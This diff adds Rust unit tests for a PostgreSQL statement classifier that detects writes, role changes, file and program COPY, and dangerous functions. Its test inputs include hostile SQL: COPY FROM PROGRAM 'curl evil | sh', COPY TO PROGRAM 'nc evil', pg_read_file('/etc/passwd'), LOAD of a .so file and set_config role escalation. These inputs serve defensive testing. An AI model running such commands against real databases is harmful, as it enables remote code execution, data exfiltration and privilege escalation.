+            "CREATE TABLE x (id int DEFAULT nextval('s'), y text GENERATED ALWAYS AS (upper(z)) STORED, \
+             z text CHECK (length(z) > 0))",
+        );
+        assert_eq!(s.kinds, vec![K::Create]);
+        assert_eq!(s.functions, strs(&["nextval", "upper", "length"]));
+        assert_eq!(s.tables, strs(&["public.x"]));
+        // Functions in FROM, in ROWS FROM, in window and aggregate clauses.
+        let s = one("SELECT sum(v) FILTER (WHERE f(v) > 0) OVER (PARTITION BY g(k)) \
+             FROM ROWS FROM (h(1), i(2)) AS r(v, k)");
+        assert_eq!(s.functions, strs(&["sum", "f", "g", "h", "i"]));
+        assert!(s.writes);
+        // Views are named like tables; VALUES and TABLE.
+        assert_eq!(
+            one("TABLE customer_contacts").tables,
+            strs(&["public.customer_contacts"])
+        );
+        assert!(one("VALUES (1), (2)").tables.is_empty());
+    }
+
+    #[test]
+    fn whole_rows_and_stars_are_columns() {
+        let s = one("SELECT row_to_json(u) FROM users u");
+        assert!(s.columns.contains(&"u".to_string()) && s.columns.contains(&"users".to_string()));
+        let s = one("SELECT u FROM users AS u");
+        assert!(s.columns.contains(&"users".to_string()));
+        let s = one("SELECT to_jsonb(users) FROM users");
+        assert!(s.columns.contains(&"users".to_string()));
+        let s = one("SELECT (u).email, (u).* FROM users u");
+        assert!(
+            ["email", "*", "users"]
+                .iter()
+                .all(|c| s.columns.contains(&c.to_string()))
+        );
+        assert!(one("SELECT * FROM users").columns.contains(&"*".to_string()));
+        assert!(one("SELECT u.* FROM users u").columns.contains(&"*".to_string()));
+        // The whole row of a join, a subquery or a CTE is every column.
+        let s = one("SELECT row_to_json(j) FROM (users JOIN accounts USING (id)) AS j");
+        assert!(s.columns.contains(&"*".to_string()), "{:?}", s.columns);
+        assert!(
+            one("SELECT to_json(s) FROM (SELECT email FROM users) s")
+                .columns
+                .contains(&"*".to_string())
+        );
+        assert!(
+            one("WITH c AS (SELECT email FROM users) SELECT c FROM c")
+                .columns
+                .contains(&"*".to_string())
+        );
+        // A plain column is not a whole row.
+        assert_eq!(one("SELECT email FROM users").columns, strs(&["email"]));
+        assert!(one("SELECT count(*) FROM users").columns.is_empty());
+    }
+
+    #[test]
+    fn explain_runs_only_with_analyze() {
+        let s = one("EXPLAIN DELETE FROM orders");
+        assert_eq!(s.kinds, vec![K::Explain]);
+        assert!(!s.writes && !s.without_where);
+        assert_eq!(s.tables, strs(&["public.orders"]));
+        let s = one("EXPLAIN ANALYZE DELETE FROM orders");
+        assert_eq!(s.kinds, vec![K::ExplainAnalyze, K::Delete]);
+        assert!(s.writes && s.without_where);
+        for sql in [
+            "EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET name = name",
+            "EXPLAIN (ANALYZE true, FORMAT JSON) INSERT INTO c (name) VALUES ('a')",
+            "EXPLAIN (ANALYZE on) DELETE FROM t",
+            "EXPLAIN (ANALYZE 1) DELETE FROM t",
+            "explain analyse with d as (delete from orders returning 1) select 1",
+            "EXPLAIN ANALYZE VERBOSE DELETE FROM t",
+        ] {
+            let s = one(sql);
+            assert_eq!(s.kind(), K::ExplainAnalyze, "{sql}");
+            assert!(s.writes, "{sql}");
+        }
+        for sql in [
+            "EXPLAIN (ANALYZE false) DELETE FROM t",
+            "EXPLAIN (ANALYZE off, COSTS) DELETE FROM t",
+            "EXPLAIN (ANALYZE 0) DELETE FROM t",
+        ] {
+            let s = one(sql);
+            assert_eq!(s.kinds, vec![K::Explain], "{sql}");
+            assert!(!s.writes, "{sql}");
+        }
+        let s = one("EXPLAIN ANALYZE SELECT nextval('s')");
+        assert_eq!(
+            (s.kinds.clone(), s.writes),
+            (vec![K::ExplainAnalyze, K::Select], true)
+        );
+        let s = one("EXPLAIN ANALYZE EXECUTE del(1)");
+        assert_eq!(s.kinds, vec![K::ExplainAnalyze, K::Execute]);
+        assert_eq!(s.execute.as_deref(), Some("del"));
+    }
+
+    #[test]
+    fn functions_that_may_write_are_writes() {
+        for sql in [
+            "SELECT nextval('orders_id_seq')",
+            "SELECT setval('public.orders_id_seq', 100)",
+            "SELECT pg_catalog.nextval('s'::regclass)",
+            "SELECT \"nextval\"('s')",
+            "SELECT NEXTVAL('s')",
+            "SELECT (SELECT setval('s', 5)) AS v",
+            "SELECT billing.mark_paid(1)",
+            "SELECT * FROM billing.mark_paid(2)",
+            "SELECT count(*) FROM customers WHERE billing.mark_paid(1) IS NULL",
+            "SELECT lo_create(0)",
+            "SELECT set_config('search_path', 'billing', false)",
+            "SELECT pg_advisory_lock(1)",
+            "SELECT txid_current()",
+            "VALUES (nextval('s'))",
+            // A built-in name in another schema is not the built-in.
+            "SELECT evil.lower('A')",
+            // Operators that are not built-in symbols.
+            "SELECT 1 === 2",
+            "SELECT 1 OPERATOR(public.+) 2",
+            "SELECT * FROM t ORDER BY a USING ~<~",
+        ] {
+            assert!(one(sql).writes, "{sql}");
+        }
+        for sql in [
+            "SELECT lower(name), count(*), now(), coalesce(a, b), greatest(1, 2) FROM t GROUP BY 1",
+            "SELECT pg_catalog.lower('A'), 'a' || 'b', 1 + 2 * 3, x BETWEEN 1 AND 2, y LIKE 'a%' FROM t",
+            "SELECT extract(year FROM now()), substring('abc' FROM 2), trim(' a '), position('b' IN 'abc')",
+            "SELECT currval('orders_id_seq') WHERE false",
+            "SELECT jsonb_build_object('a', 1) -> 'a', '{}'::jsonb @> '{}'",
+            "SELECT x FROM t WHERE x = ANY (ARRAY[1, 2]) AND y IN (1, 2) AND z IS DISTINCT FROM 3",
+            "SELECT CURRENT_DATE, CURRENT_USER, now() AT TIME ZONE 'UTC'",
+        ] {
+            let s = one(sql);
+            assert!(!s.writes, "{sql}: {s:?}");
+        }
+        assert_eq!(
+            one("SELECT pg_catalog.upper(x), billing.mark_paid(1) FROM t").functions,
+            strs(&["upper", "mark_paid"])
+        );
+    }
+
+    #[test]
+    fn locking_reads_select_into_and_lock() {
+        for sql in [
+            "SELECT * FROM orders FOR UPDATE",
+            "SELECT * FROM c JOIN o ON true FOR NO KEY UPDATE OF o",
+            "SELECT * FROM orders FOR SHARE SKIP LOCKED",
+            "SELECT * FROM (SELECT * FROM orders FOR KEY SHARE) s",
+        ] {
+            let s = one(sql);
+            assert!(s.writes, "{sql}");
+            assert_eq!(s.kinds, vec![K::Select], "{sql}");
+        }
+        let s = one("SELECT * INTO orders_copy FROM orders");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Select, K::Create], true));
+        assert_eq!(s.tables, strs(&["public.orders_copy", "public.orders"]));
+        let s = one("CREATE TABLE c AS SELECT * FROM orders");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
+        let s = one("CREATE TABLE c AS EXECUTE p(1)");
+        assert_eq!(s.execute.as_deref(), Some("p"));
+        let s = one("LOCK TABLE orders IN ACCESS SHARE MODE");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Lock], false));
+        assert_eq!(s.tables, strs(&["public.orders"]));
+        assert!(!one("LOCK orders IN ROW EXCLUSIVE MODE").writes);
+        assert!(one("LOCK orders IN SHARE MODE").writes);
+        assert!(one("LOCK orders").writes);
+    }
+
+    #[test]
+    fn without_where() {
+        assert!(one("UPDATE t SET a = 1").without_where);
+        assert!(one("DELETE FROM t").without_where);
+        assert!(!one("DELETE FROM t WHERE false").without_where);
+        assert!(!one("DELETE FROM t WHERE CURRENT OF c").without_where);
+        assert!(!one("UPDATE t SET a = 1 WHERE CURRENT OF c").without_where);
+        assert!(one("WITH x AS (UPDATE t SET a = 1 RETURNING 1) SELECT * FROM x").without_where);
+        assert!(!one("SELECT * FROM t").without_where);
+        assert!(!one("TRUNCATE t").without_where);
+    }
+
+    #[test]
+    fn do_call_and_functions_and_procedures() {
+        let s = one("DO $$ BEGIN DELETE FROM orders; END $$");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Do], true));
+        let s = one("DO LANGUAGE plpgsql $b$ BEGIN EXECUTE 'UPDATE c SET n = ''x'''; END $b$");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Do], true));
+        let s = one("CALL billing.archive_paid(now())");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Call], true));
+        assert_eq!(s.functions, strs(&["archive_paid", "now"]));
+        let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
+        let s = one("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN NULL; END $$");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
+        // A SQL-standard body is parsed: what it does is seen.
+        let s = one("CREATE FUNCTION g() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM audit; END");
+        assert_eq!(s.kinds, vec![K::Create, K::Delete]);
+        assert_eq!(s.tables, strs(&["public.audit"]));
+    }
+
+    #[test]
+    fn prepare_execute_deallocate() {
+        let s = one("PREPARE del AS DELETE FROM orders WHERE id = $1");
+        assert_eq!(s.kinds, vec![K::Prepare, K::Delete]);
+        assert!(s.writes && !s.without_where);
+        assert_eq!(s.tables, strs(&["public.orders"]));
+        let (name, inner) = s.prepare.as_ref().unwrap();
+        assert_eq!(name, "del");
+        assert_eq!(inner.kinds, vec![K::Delete]);
+        assert_eq!(inner.text, "DELETE FROM orders WHERE id = $1");
+        assert_eq!(inner.tables, strs(&["public.orders"]));
+        let s = one("prepare Sel (int, \"as\") as\n  select * from t where id = $1");
+        let (name, inner) = s.prepare.as_ref().unwrap();
+        assert_eq!(
+            (name.as_str(), inner.text.as_str()),
+            ("sel", "select * from t where id = $1")
+        );
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Prepare, K::Select], false));
+        let s = one("PREPARE r AS SELECT set_config('role', $1, false)");
+        assert_eq!(s.kinds, vec![K::Prepare, K::Select, K::SetRole]);
+        let s = one("EXECUTE del(1)");
+        assert_eq!(
+            (s.kinds.clone(), s.execute.as_deref()),
+            (vec![K::Execute], Some("del"))
+        );
+        let s = one("EXECUTE del((SELECT max(id) FROM secret))");
+        assert_eq!(s.tables, strs(&["public.secret"]));
+        let s = one("DEALLOCATE del");
+        assert_eq!(
+            (s.kinds.clone(), s.deallocate.clone()),
+            (vec![K::Deallocate], Some(Some("del".into())))
+        );
+        assert_eq!(one("DEALLOCATE ALL").deallocate, Some(None));
+        assert_eq!(one("DEALLOCATE PREPARE ALL").deallocate, Some(None));
+        let s = one("DISCARD ALL");
+        assert_eq!(
+            (s.kinds.clone(), s.deallocate.clone()),
+            (vec![K::SetRole], Some(None))
+        );
+        let s = all("PREPARE del AS DELETE FROM orders WHERE id = $1; EXECUTE del(1)");
+        assert_eq!(s[1].execute.as_deref(), Some("del"));
+    }
+
+    #[test]
+    fn identity_changes_are_set_role() {
+        for sql in [
+            "SET ROLE admin",
+            "SET SESSION ROLE admin",
+            "SET LOCAL ROLE admin",
+            "SET role = 'admin'",
+            "set Role to admin",
+            "SET \"ROLE\" TO admin",
+            "SET ROLE NONE",
+            "RESET ROLE",
+            "SET SESSION AUTHORIZATION admin",
+            "SET SESSION AUTHORIZATION DEFAULT",
+            "RESET SESSION AUTHORIZATION",
+            "SET session_authorization = admin",
+            "RESET ALL",
+            "DISCARD ALL",
+        ] {
+            let s = one(sql);
+            assert_eq!(s.kinds, vec![K::SetRole], "{sql}");
+            assert!(!s.writes, "{sql}");
+        }
+        for sql in [
+            "SELECT set_config('role', 'admin', false)",
+            "SELECT pg_catalog.set_config('ROLE', 'admin', true)",
+            "SELECT set_config('session_authorization', 'admin', false)",
+            "SELECT * FROM set_config('role', 'admin', false)",
+            "SELECT set_config('rol' || 'e', 'admin', false)",
+            "SELECT set_config($1, $2, false)",
+            "SELECT 1 WHERE set_config('role'::text, 'admin', false) IS NOT NULL",
+        ] {
+            let s = one(sql);
+            assert_eq!(s.kinds, vec![K::Select, K::SetRole], "{sql}");
+            assert!(s.writes, "{sql}");
+        }
+        let s = one("SELECT set_config('work_mem', '1MB', false)");
+        assert_eq!(s.kinds, vec![K::Select, K::Set]);
+        assert_eq!(s.settings, strs(&["work_mem"]));
+        let s = one("SET work_mem = '1MB'");
+        assert_eq!(
+            (s.kinds.clone(), s.settings.clone()),
+            (vec![K::Set], strs(&["work_mem"]))
+        );
+        assert_eq!(
+            one("SET search_path TO billing, public").settings,
+            strs(&["search_path"])
+        );
+        assert_eq!(one("SET SCHEMA 'billing'").settings, strs(&["search_path"]));
+        assert_eq!(one("RESET ALL").settings, strs(&["*"]));
+        assert_eq!(one("SHOW search_path").kinds, vec![K::Show]);
+        assert_eq!(
+            one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").kinds,
+            vec![K::Transaction]
+        );
+    }
+
+    #[test]
+    fn settings_that_change_how_text_is_read_are_refused() {
+        for sql in [
+            "SET standard_conforming_strings = off",
+            "SET standard_conforming_strings TO false",
+            "SET LOCAL standard_conforming_strings = 0",
+            "SELECT set_config('standard_conforming_strings', 'off', false)",
+            "SELECT set_config('standard_conforming_strings', $1, false)",
+            "SET client_encoding = 'SJIS'",
+            "SET NAMES 'BIG5'",
+            "SELECT set_config('client_encoding', 'GBK', false)",
+            "EXPLAIN ANALYZE SELECT set_config('client_encoding', 'GBK', false)",
+            "SELECT 1; SET client_encoding = 'SJIS'",
+        ] {
+            assert!(classify(sql).is_err(), "{sql}");
+        }
+        for sql in [
+            "SET standard_conforming_strings = on",
+            "SET client_encoding = 'UTF8'",
+            "SET NAMES 'utf-8'",
+            "SET client_encoding TO unicode",
+            "RESET client_encoding",
+            "SET client_encoding TO DEFAULT",
+        ] {
+            assert!(classify(sql).is_ok(), "{sql}");
+        }
+    }
+
+    #[test]
+    fn settings_changed_through_pg_settings_are_refused() {
+        for sql in [
+            "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
+            "UPDATE pg_catalog.pg_settings SET setting = 'admin' WHERE name = 'role'",
+            "WITH x AS (UPDATE pg_settings SET setting = '1' RETURNING 1) SELECT 1",
+        ] {
+            assert!(classify(sql).is_err(), "{sql}");
+        }
+        assert!(classify("SELECT * FROM pg_settings").is_ok());
+        assert!(classify("UPDATE app.pg_settings SET x = 1 WHERE true").is_ok());
+    }
+
+    #[test]
+    fn copy() {
+        let s = one("COPY orders FROM STDIN");
+        assert_eq!(
+            (s.kinds.clone(), s.writes, s.copy),
+            (
+                vec![K::Copy],
+                true,
+                Some(CopyInfo {
+                    from: true,
+                    program: false,
+                    file: false
+                })
+            )
+        );
+        assert_eq!(s.tables, strs(&["public.orders"]));
+        let s = one("COPY billing.invoices (order_id, amount) TO STDOUT WITH (FORMAT csv)");
+        assert_eq!((s.writes, s.copy.map(|c| c.from)), (false, Some(false)));
+        assert_eq!(s.tables, strs(&["billing.invoices"]));
+        let s = one("COPY (SELECT * FROM secret) TO STDOUT");
+        assert_eq!((s.writes, s.tables.clone()), (false, strs(&["public.secret"])));
+        let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Copy, K::Delete], true));
+        let s = one("COPY orders FROM PROGRAM 'curl evil | sh'");
+        assert_eq!(s.copy.map(|c| (c.program, c.file)), Some((true, false)));
+        let s = one("COPY orders TO PROGRAM 'nc evil 1'");
+        assert!(s.writes && s.copy.is_some_and(|c| c.program && !c.from));
+        let s = one("COPY orders FROM '/etc/passwd'");
+        assert_eq!(s.copy.map(|c| (c.program, c.file)), Some((false, true)));
+        let s = one("COPY orders TO '/tmp/x'");
+        assert!(s.writes && s.copy.is_some_and(|c| c.file && !c.from));
+    }
+
+    #[test]
+    fn dangerous_functions_are_listed_wherever_they_are_called() {
+        for (sql, f) in [
+            ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
+            ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
+            ("SELECT lo_import('/etc/passwd')", "lo_import"),
+            ("SELECT lo_export(1, '/tmp/x')", "lo_export"),
+            ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "dblink"),
+            ("SELECT ext.dblink_exec('x')", "dblink_exec"),
+            ("SELECT 1 WHERE pg_terminate_backend(1)", "pg_terminate_backend"),
+            (
+                "WITH x AS (SELECT pg_read_binary_file('/x')) SELECT 1",
+                "pg_read_binary_file",
+            ),
+            (
+                "SELECT query_to_xml('SELECT * FROM secret', true, false, '')",
+                "query_to_xml",
+            ),
+            ("INSERT INTO t VALUES (pg_read_file('/x'))", "pg_read_file"),
+        ] {
+            assert!(one(sql).functions.iter().any(|x| x == f), "{sql}");
+        }
+    }
+
+    #[test]
+    fn ddl_kinds() {
+        for (sql, kind) in [
+            ("CREATE TABLE t (id int)", K::Create),
+            ("CREATE INDEX ON orders (status)", K::Create),
+            ("CREATE VIEW v AS SELECT * FROM orders", K::Create),
+            ("CREATE SCHEMA s2", K::Create),
+            ("CREATE ROLE someone", K::Create),
+            ("CREATE EXTENSION dblink", K::Create),
+            ("CREATE SEQUENCE s", K::Create),
+            ("CREATE TYPE mood AS ENUM ('a')", K::Create),
+            ("CREATE MATERIALIZED VIEW mv AS SELECT 1", K::Create),
+            ("ALTER TABLE customers ADD COLUMN nickname text", K::Alter),
+            ("ALTER ROLE gw PASSWORD 'changed'", K::Alter),
+            ("ALTER SYSTEM SET archive_command = 'sh -c x'", K::Alter),
+            ("ALTER TABLE t RENAME TO u", K::Alter),
+            ("COMMENT ON TABLE orders IS 'x'", K::Alter),
+            ("DROP TABLE a, billing.b", K::Drop),
+            ("DROP VIEW customer_contacts", K::Drop),
+            ("DROP ROLE someone", K::Drop),
+            ("DROP SCHEMA billing CASCADE", K::Drop),
+            ("TRUNCATE billing.invoices", K::Truncate),
+            ("GRANT SELECT ON orders TO PUBLIC", K::Grant),
+            ("GRANT admin TO agent", K::Grant),
+            ("REVOKE ALL ON orders FROM gw", K::Revoke),
+            ("REVOKE admin FROM agent", K::Revoke),
+            (
+                "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent",
+                K::Grant,
+            ),
+        ] {
+            let s = one(sql);
+            assert_eq!(s.kinds, vec![kind], "{sql}");
+            assert!(s.writes, "{sql}");
+        }
+        assert_eq!(
+            one("DROP TABLE a, billing.b").tables,
+            strs(&["public.a", "billing.b"])
+        );
+        assert_eq!(one("TRUNCATE a, b").tables, strs(&["public.a", "public.b"]));
+        assert_eq!(
+            one("GRANT SELECT ON orders TO PUBLIC").tables,
+            strs(&["public.orders"])
+        );
+        assert_eq!(
+            one("COMMENT ON TABLE orders IS 'x'").tables,
+            strs(&["public.orders"])
+        );
+        let s = one("COMMENT ON COLUMN billing.invoices.iban IS 'x'");
+        assert_eq!(
+            (s.tables, s.columns),
+            (strs(&["billing.invoices"]), strs(&["iban"]))
+        );
+        assert_eq!(one("ALTER TABLE t RENAME TO u").tables, strs(&["public.t"]));
+        assert_eq!(
+            one("CREATE INDEX ON orders (status)").tables,
+            strs(&["public.orders"])
+        );
+        assert_eq!(
+            one("CREATE VIEW v AS SELECT * FROM orders").tables,
+            strs(&["public.v", "public.orders"])
+        );
+        assert_eq!(one("ALTER SYSTEM SET work_mem = '8MB'").node, "AlterSystemStmt");
+    }
+
+    #[test]
+    fn rules_triggers_load_and_other_commands() {
+        let s = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit");
+        assert_eq!(s.kinds, vec![K::Create, K::Delete]);
+        assert_eq!(s.tables, strs(&["public.t", "public.audit"]));
+        let s = one("CREATE TRIGGER tr AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION billing.audit()");
+        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Create], true));
+        assert_eq!(
+            (s.tables.clone(), s.functions.clone()),
+            (strs(&["public.orders"]), strs(&["audit"]))
+        );
+        let s = one("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION snoop()");
+        assert_eq!(s.functions, strs(&["snoop"]));
+        let s = one("LOAD '/tmp/evil.so'");
+        assert_eq!(
+            (s.kinds.clone(), s.writes, s.node),
+            (vec![K::Other], true, "LoadStmt")
+        );
+        for (sql, kind, writes) in [
+            ("BEGIN", K::Transaction, false),
+            ("START TRANSACTION READ ONLY", K::Transaction, false),
+            ("COMMIT", K::Transaction, false),
+            ("ROLLBACK TO SAVEPOINT a", K::Transaction, false),
+            ("SAVEPOINT a", K::Transaction, false),
+            ("SET CONSTRAINTS ALL DEFERRED", K::Transaction, false),
+            ("LISTEN ch", K::Listen, false),
+            ("UNLISTEN *", K::Listen, false),
+            ("NOTIFY ch, 'x'", K::Notify, true),
+            ("VACUUM FULL orders", K::Vacuum, true),
+            ("ANALYZE orders", K::Vacuum, true),
+            ("CHECKPOINT", K::Other, true),
+            ("CLUSTER orders USING orders_pkey", K::Other, true),
+            ("REINDEX TABLE orders", K::Other, true),
+            ("REFRESH MATERIALIZED VIEW order_totals", K::Other, true),
+            ("DISCARD PLANS", K::Other, false),
+            ("DECLARE c CURSOR FOR SELECT * FROM orders", K::Select, false),
+            ("FETCH 10 FROM c", K::Select, false),
+            ("CLOSE c", K::Select, false),
+        ] {
+            let s = one(sql);
+            assert_eq!((s.kinds.clone(), s.writes), (vec![kind], writes), "{sql}");
+        }
+        assert_eq!(one("VACUUM orders").tables, strs(&["public.orders"]));
+        assert_eq!(
+            one("DECLARE c CURSOR FOR SELECT * FROM orders").tables,
+            strs(&["public.orders"])
+        );
+    }
+
+    #[test]
+    fn what_does_not_parse_is_an_error() {
+        let e = classify("SELEC 1").unwrap_err();
+        assert!(e.message.contains("syntax error"), "{e}");
+        let e = classify("SELECT 1 +").unwrap_err();
+        assert_eq!(e.position, Some(11));
+        assert_eq!(e.to_string(), "syntax error at end of input at character 11");
+        assert!(classify("SELECT 1\0; DROP TABLE t").is_err());
+        assert!(classify("SELECT 'unterminated").is_err());
+        assert!(classify("SELECT 1 /* unterminated").is_err());
+        assert!(classify("SELECT $$ unterminated").is_err());
+    }
+
+    #[test]
+    fn deep_nesting_is_classified_or_refused() {
+        // Long flat chains parse; absurd nesting is refused, never walked past.
+        let chain = format!("SELECT {}", vec!["x"; 500].join(" AND "));
+        assert!(!one(&chain).writes);
+        // pg_query decodes the tree with prost's recursion limit (100 nested messages): deeper
+        // statements are refused, never walked past.
+        let sum = |n| format!("SELECT {} FROM t", vec!["1"; n].join(" + "));
+        assert!(classify(&sum(40)).is_ok());
+        let e = classify(&sum(60)).unwrap_err();
+        assert_eq!(e.message, "the statement is too deeply nested to classify");
+        let subqueries = |n| format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n));
+        assert!(classify(&subqueries(10)).is_ok());
+        assert!(classify(&subqueries(30)).is_err());
+        let nested = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
+        assert!(classify(&nested).is_err());
+    }
+
+    #[test]
+    fn read_only_function_list_has_no_writers() {
+        for f in [
+            "nextval",
+            "setval",
+            "set_config",
+            "lo_import",
+            "pg_read_file",
+            "dblink",
+            "query_to_xml",
+            "ts_stat",
+            "ts_rewrite",
+            "pg_advisory_lock",
+            "txid_current",
+            "pg_notify",
+            "setseed",
+        ] {
+            assert!(!read_only_functions().contains(f), "{f}");
+        }
+        let unique: HashSet<_> = READ_ONLY_FUNCTIONS.iter().collect();
+        assert_eq!(
+            unique.len(),
+            READ_ONLY_FUNCTIONS.len(),
+            "duplicates in READ_ONLY_FUNCTIONS"
+        );
+    }
+
+    /// Why the cache key is the exact text: pg_query's fingerprint equates texts this classifier
+    /// must tell apart.
+    #[test]
+    fn fingerprints_are_not_a_sound_cache_key() {
+        for (a, b) in [
+            // Constants: an identity change and a harmless setting.
+            (
+                "SELECT set_config('role', 'admin', false)",
+                "SELECT set_config('work_mem', '64MB', false)",
+            ),
+            // Names of prepared statements.
+            ("EXECUTE harmless", "EXECUTE drop_everything"),
+            // Digits in table names.
+            ("SELECT * FROM orders_2023", "SELECT * FROM orders_9999"),
+            // Aliases: a whole-row read of users, and a column named t.
+            ("SELECT t FROM users t", "SELECT t FROM users u"),
+        ] {
+            let fa = pg_query::fingerprint(a).unwrap().value;
+            let fb = pg_query::fingerprint(b).unwrap().value;
+            assert_eq!(fa, fb, "{a} / {b}");
+            assert_ne!(classify(a).unwrap(), classify(b).unwrap(), "{a} / {b}");
+        }
+    }
+
+    #[test]
+    fn the_cache_returns_the_same_classification() {
+        let c = Classifier::new(100);
+        assert!(c.is_empty());
+        let a = c.classify("SELECT 1").unwrap();
+        let b = c.classify("SELECT 1").unwrap();
+        assert!(Arc::ptr_eq(&a, &b));
+        assert_eq!(*a, classify("SELECT 1").unwrap());
+        let other = c.classify("SELECT 2").unwrap();
+        assert!(!Arc::ptr_eq(&a, &other));
+        assert_eq!(c.len(), 2);
+        // Errors are returned, not cached.
+        assert!(c.classify("SELEC 1").is_err());
+        assert_eq!(c.len(), 2);
+        // Literals matter: the exact text is the key.
+        let role = c.classify("SELECT set_config('role', 'x', false)").unwrap();
+        let mem = c.classify("SELECT set_config('work_mem', 'x', false)").unwrap();
+        assert_eq!(role.statements[0].kinds, vec![K::Select, K::SetRole]);
+        assert_eq!(mem.statements[0].kinds, vec![K::Select, K::Set]);
+    }
+
+    #[test]
+    fn the_cache_is_bounded_and_keeps_what_is_used() {
+        let c = Classifier::new(10);
+        let hot = c.classify("SELECT 0").unwrap();
+        for i in 1..1000 {
+            c.classify(&format!("SELECT {i}")).unwrap();
+            // The hot entry is used all the time and stays.
+            assert!(Arc::ptr_eq(&hot, &c.classify("SELECT 0").unwrap()));
+            assert!(c.len() <= 10, "{}", c.len());
+        }
+        let big = Classifier::new(4096);
+        for i in 0..20_000 {
+            big.classify(&format!("SELECT {i}")).unwrap();
+        }
+        assert!(big.len() <= 4096 && big.len() >= 1024, "{}", big.len());
+        // No cache, and texts too long to cache.
+        let none = Classifier::new(0);
+        none.classify("SELECT 1").unwrap();
+        assert!(none.is_empty());
+        let long = format!("SELECT '{}'", "x".repeat(MAX_CACHED_TEXT));
+        c.classify(&long).unwrap();
+        assert!(!c.classify(&long).unwrap().statements.is_empty());
+    }
+
+    #[test]
+    fn the_cache_is_shared_between_threads() {
+        let c = Arc::new(Classifier::new(2048));
+        let threads: Vec<_> = (0..4)
+            .map(|t| {
+                let c = c.clone();
+                std::thread::spawn(move || {
+                    for i in 0..500 {
+                        let sql = format!("SELECT {} FROM t{}", i % 50, t % 2);
+                        let s = c.classify(&sql).unwrap();
+                        assert_eq!(s.statements[0].tables, vec![format!("public.t{}", t % 2)]);
+                    }
+                })
+            })
+            .collect();
+        for t in threads {
+            t.join().unwrap();
+        }
+        assert_eq!(c.len(), 100);
+    }
+}
